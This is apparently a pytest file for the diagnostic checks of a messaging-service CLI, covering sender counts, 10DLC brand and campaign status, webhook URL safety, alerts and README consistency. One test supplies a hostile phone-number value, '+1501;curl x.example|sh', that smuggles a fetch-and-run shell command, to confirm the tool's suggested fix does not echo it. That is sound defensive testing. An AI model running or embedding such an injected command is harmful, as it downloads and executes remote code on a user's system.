"""Each check of msgsvc doctor, as a pure function of what was read: one case that trips it
(with its exact evidence and fix) and one that passes it. The table of checks is the README's."""

from __future__ import annotations

import re
from datetime import datetime, timezone
from pathlib import Path

import pytest
from conftest import SERVICE_SID, service
from factories import number, sender

from msgsvc.jobs.doctor import checks
from msgsvc.jobs.doctor.checks import AccountFacts, ServiceFacts
from msgsvc.jobs.doctor.finding import CHECKS, Finding, ordered, worst

NOW = datetime(2026, 12, 6, 12, 0, tzinfo=timezone.utc)
BN = "BN" + "5" * 32
QE = "QE" + "4" * 32
XE = "XE" + "6" * 32
LONG1 = number("PN" + "1" * 32, "+15017122661")
LONG2 = number("PN" + "2" * 32, "+15017122662")
SHORT = sender("SC" + "3" * 32, short_code="55501", country_code="US", capabilities=["SMS"])
WHATSAPP = sender(XE, sender="whatsapp:+15017122661", sender_type="WhatsApp", country_code="US")
# A service that passes every check: https hooks, no obsolete field, two long codes, a verified campaign.
GOOD = service(fallback_to_long_code=False, synchronous_validation=False, use_inbound_webhook_on_number=False,
               inbound_request_url="https://hooks.example.com/in", status_callback="https://hooks.example.com/status")
APPROVED = {"sid": BN, "status": "APPROVED", "brand_type": "STANDARD", "identity_status": "VERIFIED"}
VERIFIED = {"sid": QE, "campaign_status": "VERIFIED", "brand_registration_sid": BN, "errors": []}


def facts(service_fields=None, numbers=(LONG1, LONG2), short_codes=(), channel_senders=(), campaign=VERIFIED,
          **account) -> tuple[ServiceFacts, AccountFacts]:
    s = ServiceFacts({**GOOD, **(service_fields or {})}, list(numbers), list(short_codes), [], list(channel_senders), campaign)
    a = AccountFacts(now=NOW, brands={BN: account.pop("brand", APPROVED)}, **account)
    return s, a


def run(check, s, a) -> list[tuple[str, str, str, str | None]]:
    return [(f.severity, f.check, f.evidence_text(), f.fix) for f in check(s, a)]


def test_a_good_service_has_no_finding():
    assert checks.service_findings(*facts()) == []


def test_no_senders():
    assert run(checks.no_senders, *facts(numbers=(), campaign=None)) == [
        ("error", "no-senders", "phone_numbers=0 short_codes=0 alpha_senders=0 channel_senders=0",
         f"msgsvc numbers attach {SERVICE_SID} NUMBER")]
    assert run(checks.no_senders, *facts(numbers=(), short_codes=[SHORT], campaign=None)) == []


def test_brand_not_approved_with_its_failure_reason():
    failed = {**APPROVED, "status": "FAILED", "failure_reason": "Address not verified"}
    assert run(checks.brand, *facts(brand=failed)) == [
        ("error", "10dlc-brand-not-approved", f'brand={BN} status=FAILED failure_reason="Address not verified"', None)]
    assert run(checks.brand, *facts()) == []


def test_a_sole_proprietor_brand_unverified_and_with_two_numbers():
    sole = {**APPROVED, "brand_type": "SOLE_PROPRIETOR", "identity_status": "UNVERIFIED"}
    assert run(checks.brand, *facts(brand=sole)) == [
        ("error", "10dlc-sole-proprietor-unverified", f"brand={BN} identity_status=UNVERIFIED", None),
        ("error", "10dlc-sole-proprietor-numbers", f"us_long_codes=2 allowed=1 brand={BN}",
         f"msgsvc numbers detach {SERVICE_SID} +15017122662")]
    assert run(checks.brand, *facts(numbers=[LONG1], brand={**sole, "identity_status": "SELF_DECLARED"})) == []


def test_a_fix_names_no_number_that_is_not_one():
    sole = {**APPROVED, "brand_type": "SOLE_PROPRIETOR", "identity_status": "VERIFIED"}
    hostile = number("PN" + "2" * 32, "+1501;curl x.example|sh")
    assert run(checks.brand, *facts(numbers=[LONG1, hostile], brand=sole)) == [
        ("error", "10dlc-sole-proprietor-numbers", f"us_long_codes=2 allowed=1 brand={BN}",
         f"msgsvc numbers detach {SERVICE_SID} NUMBER")]


def test_the_pool_at_380_of_400():
    many = [number("PN%032x" % i, f"+1501{i:07d}") for i in range(379)]
    assert run(checks.pool, *facts(numbers=many, short_codes=[SHORT])) == [
        ("warning", "pool-near-limit", "phone_numbers=379 short_codes=1 pool=380 limit=400", None)]
    assert run(checks.pool, *facts(numbers=many)) == []


def test_replies_dropped_without_an_inbound_url():
    assert run(checks.inbound, *facts({"inbound_request_url": None})) == [
        ("warning", "inbound-dropped", "inbound_request_url=none use_inbound_webhook_on_number=false",
         f"msgsvc services update {SERVICE_SID} --inbound-request-url URL")]
    assert run(checks.inbound, *facts({"inbound_request_url": None, "use_inbound_webhook_on_number": True})) == []


def test_number_webhooks_chosen_and_a_number_without_one():
    incoming = {LONG1["sid"]: {"sid": LONG1["sid"], "sms_url": "", "sms_application_sid": None},
                LONG2["sid"]: {"sid": LONG2["sid"], "sms_url": "https://hooks.example.com/n", "sms_application_sid": None}}
    assert run(checks.inbound, *facts({"use_inbound_webhook_on_number": True}, incoming=incoming)) == [
        ("warning", "number-webhook-missing", "use_inbound_webhook_on_number=true numbers_without_sms_url=1 numbers=+15017122661",
         f"msgsvc services update {SERVICE_SID} --no-use-inbound-webhook-on-number")]
    incoming[LONG1["sid"]] = {"sid": LONG1["sid"], "sms_url": "", "sms_application_sid": "AP" + "7" * 32}
    assert run(checks.inbound, *facts({"use_inbound_webhook_on_number": True}, incoming=incoming)) == []


@pytest.mark.parametrize("url, problem", [
    ("http://hooks.example.com/in", '"plain http"'), ("https://localhost:3000/in", "local"),
    ("https://127.0.0.1/in", "local"), ("https://192.168.1.10/in", "local"), ("ftp://hooks.example.com", "malformed"),
    ("https:///in", "malformed"),
])
def test_a_webhook_url_that_is_plain_http_local_or_malformed(url, problem):
    assert run(checks.webhooks, *facts({"status_callback": url})) == [
        ("warning", "webhook-url-unsafe", f"field=status_callback url={url} problem={problem}",
         f"msgsvc services update {SERVICE_SID} --status-callback https://...")]


def test_https_webhooks_pass():
    assert run(checks.webhooks, *facts({"fallback_url": "https://hooks.example.com/fallback"})) == []


def test_no_status_callback():
    assert run(checks.status_callback, *facts({"status_callback": None})) == [
        ("info", "no-status-callback", "status_callback=none", f"msgsvc services update {SERVICE_SID} --status-callback URL")]
    assert run(checks.status_callback, *facts()) == []


def test_obsolete_and_reserved_fields():
    assert run(checks.obsolete, *facts({"fallback_to_long_code": True, "synchronous_validation": True})) == [
        ("warning", "obsolete-field", "field=fallback_to_long_code value=true",
         f"msgsvc services update {SERVICE_SID} --no-fallback-to-long-code"),
        ("warning", "obsolete-field", "field=synchronous_validation value=true",
         f"msgsvc services update {SERVICE_SID} --no-synchronous-validation")]
    assert run(checks.obsolete, *facts()) == []


def test_geomatch_with_one_long_code_and_with_a_us_short_code():
    fix = f"msgsvc services update {SERVICE_SID} --no-area-code-geomatch"
    assert run(checks.geomatch, *facts({"area_code_geomatch": True}, numbers=[LONG1], short_codes=[SHORT])) == [
        ("warning", "geomatch-few-long-codes", "area_code_geomatch=true long_codes=1", fix),
        ("info", "geomatch-short-code", "area_code_geomatch=true us_short_codes=1", fix)]
    assert run(checks.geomatch, *facts({"area_code_geomatch": True})) == []
    assert run(checks.geomatch, *facts({"area_code_geomatch": False}, numbers=[LONG1])) == []


def test_a_channel_sender_not_online():
    offline = {"sid": XE, "status": "OFFLINE", "offline_reasons": [{"code": "30008", "message": "No delivery"}]}
    assert run(checks.channel_senders, *facts(channel_senders=[WHATSAPP], channel_status={XE: offline})) == [
        ("error", "channel-sender-offline", f'sender=whatsapp:+15017122661 sid={XE} status=OFFLINE reasons="30008: No delivery"', None)]
    online = {"sid": XE, "status": "ONLINE", "offline_reasons": None}
    assert run(checks.channel_senders, *facts(channel_senders=[WHATSAPP], channel_status={XE: online})) == []


def alert(code: str, n: int, service_sid: str = SERVICE_SID) -> dict:
    return {"sid": "NO%032x" % n, "error_code": code, "service_sid": service_sid, "resource_sid": "SM%032x" % n}


def test_alerts_are_counted_by_code_with_three_samples_and_a_verified_campaign_seeing_30034():
    alerts = [alert("30034", i) for i in range(1, 5)] + [alert("21610", 9), alert("30007", 10, "MG" + "9" * 32), alert("99999", 11)]
    assert run(checks.alerts, *facts(alerts=alerts, since="24h")) == [
        ("error", "alerts-30034", "count=4 since=24h samples=" + ",".join("SM%032x" % i for i in (2, 3, 4)), None),
        ("info", "alerts-21610", "count=1 since=24h samples=" + "SM%032x" % 9, None),
        ("error", "10dlc-verified-but-30034", f"campaign={QE} campaign_status=VERIFIED alerts_30034=4", None)]
    others = [alert("11200", 1), alert("30032", 2), alert("30007", 3)]
    assert run(checks.alerts, *facts(campaign=None, numbers=[], alerts=others, since="1h")) == [
        ("error", "alerts-30032", "count=1 since=1h samples=" + "SM%032x" % 2, None),
        ("warning", "alerts-30007", "count=1 since=1h samples=" + "SM%032x" % 3, None),
        ("warning", "alerts-11200", "count=1 since=1h samples=" + "SM%032x" % 1, None)]


def test_no_alert_or_no_look_back_passes():
    assert run(checks.alerts, *facts(alerts=[], since="24h")) == []
    assert run(checks.alerts, *facts(alerts=None)) == []


def test_every_check_has_a_test_that_trips_it():
    """Each id of CHECKS appears in a test of this file or of test_doctor_destination.py."""
    here = Path(__file__).read_text(encoding="utf-8") + (Path(__file__).parent / "test_doctor_destination.py").read_text(encoding="utf-8")
    tripped = set(re.findall(r'"((?:[0-9a-z]+-)+[0-9a-z]+)"', here))
    assert set(CHECKS) - tripped == set()


def test_findings_are_ordered_by_service_then_severity_and_the_worst_is_known():
    a = Finding("info", "MG2", "no-status-callback", ())
    b = Finding("error", "MG2", "no-senders", ())
    c = Finding("warning", "MG1", "obsolete-field", ())
    assert ordered([a, b, c], ["MG1", "MG2"]) == [c, b, a]
    assert (worst([a, c]), worst([])) == ("warning", None)
    assert b.as_dict() == {"severity": "error", "service": "MG2", "service_name": None, "check": "no-senders",
                           "title": CHECKS["no-senders"].title, "evidence": {}, "fix": None,
                           "source": ""}


def test_the_readme_table_is_the_table_of_checks():
    """README, "Will it deliver?": one row per check, in order, with its severity, title and page."""
    readme = (Path(__file__).resolve().parents[1] / "README.md").read_text(encoding="utf-8")
    section = readme.split("## Will it deliver?\n", 1)[1].split("\n## ", 1)[0]
    rows = [line.split(" | ") for line in section.splitlines() if line.startswith("| `")]
    assert [(r[0].strip("| `"), r[1], r[2], r[4].rstrip(" |")) for r in rows] == [
        (c.id, c.severity, c.title, c.source) for c in CHECKS.values()]
    from msgsvc.errors import ExitCode

    assert f"| {ExitCode.FINDINGS.value} | `doctor`:" in readme


def test_the_unhealthy_seed_adds_toll_free_services_where_verifications_are_served():
    """Where the emulator serves toll-free verifications (its seed has their table), the
    unhealthy account holds a toll-free number without a record and one rejected, editable."""
    from msgsvc.emulator.seed import seed
    from msgsvc.emulator.unhealthy import seed_unhealthy

    data = seed("AC" + "e" * 32, "t", 0)
    data.setdefault("tollfree_verifications", {})
    seed_unhealthy(data, now=1_800_000_000.0)
    by_name = {s["friendly_name"]: sid for sid, s in data["services"].items()}
    numbers = {name: [n for n in data["numbers"].values() if n["service_sid"] == by_name[name]]
               for name in ("Toll-free unverified", "Toll-free rejected")}
    assert [n["phone_number"][:8] for ns in numbers.values() for n in ns] == ["+1833555", "+1833555"]
    (record,) = data["tollfree_verifications"].values()
    assert (record["tollfree_phone_number_sid"], record["status"], record["edit_allowed"], record["edit_expiration"]) == (
        numbers["Toll-free rejected"][0]["sid"], "TWILIO_REJECTED", True, 1_800_000_000.0 + 5 * 86400)
    plain = seed("AC" + "e" * 32, "t", 0)
    plain.pop("tollfree_verifications", None)
    seed_unhealthy(plain)
    assert "Toll-free rejected" not in {s["friendly_name"] for s in plain["services"].values()}


def test_a_sender_a_move_left_in_no_service_is_an_error_of_the_service_it_was_going_to():
    from types import SimpleNamespace

    from msgsvc.jobs.doctor.moves import left_in_no_service
    from msgsvc.jobs.unfinished import NOWHERE, Unfinished

    target, source = "MG" + "a" * 32, "MG" + "b" * 32
    fields = {"kind": "phone-number", "sid": LONG1["sid"], "sender": "+15017122661", "noun": "phone number",
              "source": source, "source_name": "Alerts", "target": target, "target_name": "OTP",
              "started": NOW.timestamp(), "pid": 4242}
    [found] = left_in_no_service([Unfinished(SimpleNamespace(fields=fields), NOWHERE)])
    assert (found.severity, found.service, found.service_name, found.check) == (
        "error", target, "OTP", "sender-left-in-no-service")
    assert found.evidence_text() == (f'sender=+15017122661 sid={LONG1["sid"]} left=Alerts '
                                     'started="2026-12-06 12:00:00 UTC" pid=4242')
    assert found.fix == "msgsvc numbers attach OTP +15017122661"
    assert left_in_no_service([]) == []
